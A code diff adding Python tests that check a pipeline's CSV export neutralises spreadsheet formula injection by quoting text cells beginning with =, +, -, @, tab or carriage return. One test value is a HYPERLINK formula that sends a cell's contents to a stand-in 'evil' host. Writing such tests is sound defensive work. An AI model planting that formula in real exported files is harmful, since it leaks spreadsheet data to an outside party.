@@ -7,6 +7,8 @@ import json
 
 import pyarrow as pa
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from jsonschema import Draft202012Validator
 
 import pipelines.schema as record_schema
@@ -114,6 +116,38 @@ def test_parquet_schema_types_times_lists_and_structs():
 def test_csv_cell_round_trips(name, value, cell):
     assert to_csv_cell(name, value) == cell
     assert from_csv_cell(name, cell) == value
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "cell"),
+    [
+        ("title", '=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
+        ("summary", "+84 28 3829", "'+84 28 3829"),
+        ("summary", "- Sáng ngày 18/01", "'- Sáng ngày 18/01"),
+        ("author", "@SUM(1+1)", "'@SUM(1+1)"),
+        ("body_text", "\tcmd", "'\tcmd"),
+        ("body_text", "\rcmd", "'\rcmd"),
+        ("category", "'=already quoted", "''=already quoted"),
+        ("category", "'plain", "'plain"),
+        ("published_at", "-18/01/2023", "'-18/01/2023"),
+        ("title", "Đầu tư = tăng trưởng", "Đầu tư = tăng trưởng"),
+    ],
+)
+def test_csv_text_cell_that_a_spreadsheet_would_run_gets_a_quote_and_reads_back(name, value, cell):
+    assert to_csv_cell(name, value) == cell
+    assert from_csv_cell(name, cell) == value
+
+
+def test_csv_number_cell_is_never_quoted():
+    assert to_csv_cell("version", -3) == "-3"
+    assert from_csv_cell("version", "-3") == -3
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab đ"), max_size=8))
+def test_csv_text_cell_round_trips_and_never_begins_a_formula(value):
+    cell = to_csv_cell("title", value)
+    assert from_csv_cell("title", cell) == (value or None)
+    assert not cell or cell[0] not in "=+-@\t\r"
 
 
 def test_a_local_time_that_is_not_an_instant_keeps_its_string_in_parquet():
